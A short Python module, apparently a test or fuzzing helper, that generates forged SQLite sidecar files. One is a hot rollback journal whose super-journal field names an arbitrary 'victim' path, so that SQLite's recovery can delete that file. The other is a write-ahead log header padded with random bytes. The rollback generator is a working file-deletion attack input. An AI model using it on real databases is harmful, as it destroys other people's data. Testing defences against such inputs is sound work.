"""Forged files beside an SQLite file, by which SQLite can be made to delete another one."""

import random
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")  # of SQLite's rollback journals


def rollback(victim: Path, chance: random.Random) -> bytes:
    """A hot rollback journal of SQLite's that names `victim` as its super-journal."""
    count, nonce = chance.choice((0, 0xFFFFFFFF)), chance.randrange(1 << 32)
    header = MAGIC + struct.pack(">IIIII", count, nonce, chance.choice((0, 1)), 512, 4096)
    name = str(victim).encode()
    pages = header.ljust(512, b"\0") + struct.pack(">I", 1)
    summed = struct.pack(">II", len(name), sum(name)) + MAGIC
    return pages + name + summed


def write_ahead(chance: random.Random) -> bytes:
    """The header of a write-ahead log, and what may be frames."""
    header = struct.pack(">IIIIII", 0x377F0682, 3007000, 4096, 0, 1, 2)
    return header + chance.randbytes(chance.choice((0, 8, 24 + 4096)))
